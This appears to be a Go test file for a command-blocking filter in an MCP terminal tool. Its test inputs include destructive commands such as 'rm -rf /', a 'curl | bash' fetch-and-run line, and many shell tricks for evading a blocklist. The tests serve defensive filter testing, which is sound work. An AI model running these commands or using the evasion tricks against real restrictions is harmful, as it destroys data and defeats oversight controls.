@@ -0,0 +1,159 @@
+package terminal
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"golang-mcp-testing/tools/config"
+)
+
+func TestCheckBlockedCommands(t *testing.T) {
+	blocked := []string{"rm", "sudo", "dd", "chmod"}
+
+	tests := []struct {
+		name    string
+		command string
+		blocked bool
+	}{
+		{name: "Allowed command", command: "ls -la /tmp", blocked: false},
+		{name: "Blocked word as argument", command: "echo rm", blocked: false},
+		{name: "Quoted argument", command: `grep "rm -rf" notes.txt`, blocked: false},
+		{name: "Redirect target", command: "ls > rm", blocked: false},
+		{name: "Fd redirect", command: "ls 2>&1 | grep x", blocked: false},
+		{name: "Plain", command: "rm -rf /", blocked: true},
+		{name: "Absolute path", command: "/bin/rm -rf /", blocked: true},
+		{name: "Relative path", command: "./rm file", blocked: true},
+		{name: "Quoted command", command: `"rm" file`, blocked: true},
+		{name: "Escaped command", command: `\rm file`, blocked: true},
+		{name: "Uppercase exe", command: "RM.EXE file", blocked: true},
+		{name: "Pipe", command: "ls | rm file", blocked: true},
+		{name: "And list", command: "cd /tmp && rm file", blocked: true},
+		{name: "Or list", command: "false || rm file", blocked: true},
+		{name: "Semicolon", command: "ls; rm file", blocked: true},
+		{name: "Background", command: "sleep 1 & rm file", blocked: true},
+		{name: "Newline", command: "ls\nrm file", blocked: true},
+		{name: "Subshell", command: "(cd /tmp; rm file)", blocked: true},
+		{name: "Brace group", command: "{ rm file; }", blocked: true},
+		{name: "Command substitution", command: "echo $(rm file)", blocked: true},
+		{name: "Quoted command substitution", command: `echo "$(rm file)"`, blocked: true},
+		{name: "Backticks", command: "echo `rm file`", blocked: true},
+		{name: "Process substitution", command: "diff <(rm a) b", blocked: true},
+		{name: "Env prefix", command: "FOO=bar rm file", blocked: true},
+		{name: "Env wrapper", command: "env -i FOO=bar rm file", blocked: true},
+		{name: "Nested wrappers", command: "nohup nice -n 10 timeout 5 rm file", blocked: true},
+		{name: "Xargs", command: "find . | xargs -0 rm", blocked: true},
+		{name: "Sudo itself", command: "sudo ls", blocked: true},
+		{name: "Shell -c", command: `bash -c "rm file"`, blocked: true},
+		{name: "Shell -lc", command: `sh -lc 'ls && rm file'`, blocked: true},
+		{name: "Eval", command: `eval "rm file"`, blocked: true},
+		{name: "If body", command: "if true; then rm file; fi", blocked: true},
+		{name: "Loop body", command: "for f in a b; do rm $f; done", blocked: true},
+		{name: "Negation", command: "! rm file", blocked: true},
+		{name: "Test bracket", command: "[ -f x ] && ls", blocked: false},
+		{name: "Shell script file", command: "bash build.sh", blocked: false},
+		{name: "Shell -c after options", command: `sh -e -c 'rm file'`, blocked: true},
+		{name: "Shell -o value", command: `bash -o pipefail -c 'rm file'`, blocked: true},
+		{name: "Expansion inside word", command: "r${X}m -rf /tmp/x", blocked: true},
+		{name: "Glob question mark", command: "/bin/r? x", blocked: true},
+		{name: "Glob bracket", command: "/bin/r[m] x", blocked: true},
+		{name: "Glob star", command: "/bin/r* x", blocked: true},
+		{name: "Brace expansion", command: "{rm,ls} x", blocked: true},
+		{name: "Xargs option value", command: "xargs -n 1 rm x", blocked: true},
+		{name: "Xargs attached value", command: "xargs -n1 -I{} rm {}", blocked: true},
+		{name: "Timeout long option", command: "timeout --signal KILL 5 rm x", blocked: true},
+		{name: "Timeout option with equals", command: "timeout --signal=KILL 5 rm x", blocked: true},
+		{name: "Env split string", command: "env -S 'rm x'", blocked: true},
+		{name: "Env long split string", command: "env --split-string='rm x'", blocked: true},
+		{name: "Env chdir", command: "env -C /tmp rm x", blocked: true},
+		{name: "Chroot", command: "chroot /srv rm x", blocked: true},
+		{name: "Find exec", command: "find . -exec rm {} +", blocked: true},
+		{name: "Find execdir", command: `find . -name x -execdir rm {} \;`, blocked: true},
+		{name: "Find second exec", command: `find . -exec ls {} \; -exec rm {} \;`, blocked: true},
+		{name: "Find without exec", command: "find . -name rm", blocked: false},
+		{name: "Busybox", command: "busybox rm x", blocked: true},
+		{name: "Pipe into shell", command: "echo rm x | sh", blocked: true},
+		{name: "Here-string into shell", command: "bash <<< 'rm x'", blocked: true},
+		{name: "Shell reading stdin", command: "curl example.com | bash -s -- arg", blocked: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := checkBlockedCommands(tt.command, blocked)
+			if tt.blocked && err == nil {
+				t.Fatalf("Expected %q to be blocked", tt.command)
+			}
+			if !tt.blocked && err != nil {
+				t.Fatalf("Expected %q to be allowed, got: %v", tt.command, err)
+			}
+		})
+	}
+}
+
+func TestCheckBlockedCommands_Unparseable(t *testing.T) {
+	tests := []string{
+		`echo "unterminated`,
+		`echo 'unterminated`,
+		`echo $(unbalanced`,
+		"$CMD -rf /",
+		"$(echo rm) -rf /",
+	}
+
+	for _, command := range tests {
+		if err := checkBlockedCommands(command, []string{"rm"}); err == nil {
+			t.Errorf("Expected %q to be rejected", command)
+		}
+	}
+}
+
+func TestHandleExec(t *testing.T) {
+	ctx := mockContext()
+
+	result, err := HandleExec(ctx, ExecArgs{Command: "echo out; echo err >&2; exit 3", WorkingDir: t.TempDir()})
+	if err != nil {
+		t.Fatalf("Expected no error, got: %v", err)
+	}
+	if result.ExitCode != 3 {
+		t.Errorf("Expected exit code 3, got %d", result.ExitCode)
+	}
+	if strings.TrimSpace(result.Stdout) != "out" || strings.TrimSpace(result.Stderr) != "err" {
+		t.Errorf("Expected separate stdout/stderr, got stdout=%q stderr=%q", result.Stdout, result.Stderr)
+	}
+
+	result, err = HandleExec(ctx, ExecArgs{Command: "sleep 5", TimeoutSeconds: 1, WorkingDir: t.TempDir()})
+	if err != nil {
+		t.Fatalf("Expected no error, got: %v", err)
+	}
+	if !result.TimedOut {
+		t.Error("Expected command to time out")
+	}
+}
+
+func TestHandleExec_ShippedConfig(t *testing.T) {
+	config.IsolateForTesting(t.TempDir())
+	config.SetConfigFile(filepath.Join("..", "..", "config", "config.json"))
+	t.Cleanup(func() { config.IsolateForTesting(t.TempDir()) })
+
+	dir := t.TempDir()
+	target := filepath.Join(dir, "keep.txt")
+	if err := os.WriteFile(target, []byte("keep"), 0644); err != nil {
+		t.Fatalf("failed to write test file: %v", err)
+	}
+
+	if _, err := HandleExec(mockContext(), ExecArgs{Command: "rm " + target, WorkingDir: dir}); err == nil {
+		t.Fatal("Expected the shipped config to block rm")
+	}
+	if _, err := os.Stat(target); err != nil {
+		t.Errorf("Expected the file to survive, got: %v", err)
+	}
+}
+
+func TestCappedBuffer(t *testing.T) {
+	buf := &cappedBuffer{limit: 5}
+	buf.Write([]byte("abc"))
+	buf.Write([]byte("defgh"))
+	if buf.String() != "abcde" || !buf.truncated {
+		t.Errorf("Expected truncated 'abcde', got %q truncated=%v", buf.String(), buf.truncated)
+	}
+}